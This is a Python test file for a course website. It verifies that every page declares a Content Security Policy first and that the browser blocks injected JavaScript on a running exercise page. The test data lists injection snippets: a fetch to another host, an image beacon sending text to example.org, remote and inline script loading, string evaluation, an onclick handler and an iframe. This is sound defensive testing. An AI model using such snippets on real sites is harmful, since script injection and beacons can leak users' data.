"""What a page must not do, the browser forbids: the policy stands in every page and holds while one works."""

import re
import sys
from pathlib import Path

import pytest
from site_helpers import start

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "site"))

from course_book.security import META  # noqa: E402

# What somebody else's words could try in a page, and the part of the policy that stops it.
ATTEMPTS = {
    "ask another host": ("fetch('https://example.org/').catch(() => {})", "connect-src"),
    "tell another host by a picture": ("new Image().src = 'https://example.org/?text'", "img-src"),
    "load a script": (
        "document.head.append(Object.assign(document.createElement('script'), {src: 'https://example.org/x.js'}))",
        "script-src-elem",
    ),
    "write a script": (
        "const script = document.createElement('script'); script.text = 'window.ran = true';"
        "document.head.append(script)",
        "script-src-elem",
    ),
    "run words as a script": ("setTimeout('window.ran = true')", "script-src"),
    "run an attribute": (
        "document.body.insertAdjacentHTML('beforeend', '<p onclick=\"window.ran = true\">');"
        "document.body.lastElementChild.click()",
        "script-src-attr",
    ),
    "frame another page": (
        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://example.org/'}))",
        "frame-src",
    ),
}


def test_every_page_states_the_policy_before_anything_else(site):
    pages = [path for path in site.rglob("*.html") if "_static" not in path.parts]
    assert len(pages) > 40
    for path in pages:
        html = path.read_text(encoding="utf-8")
        before, found, _ = html.partition(META)
        assert found and not {"<script", "<link", "<style", "<img"} & set(re.findall(r"<\w+", before)), path


@pytest.fixture(scope="module")
def working(browser, base_url):
    """A page with an exercise at work."""
    page = browser.new_page()
    page.goto(f"{base_url}/exercises/goal-builder.html")
    start(page)
    yield page
    page.close()


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_a_page_with_a_running_exercise_cannot(working, attempt):
    script, part = ATTEMPTS[attempt]
    # The script is part of what the test itself runs: a page has no way to run a text.
    stopped = working.evaluate(
        f"""() => new Promise((resolve, reject) => {{
            const heard = event => resolve(event.effectiveDirective);
            document.addEventListener('securitypolicyviolation', heard, {{once: true}});
            setTimeout(() => reject(new Error('nothing was stopped')), 5000);
            {script}
        }})"""
    )
    assert stopped == part
    assert not working.evaluate("window.ran")
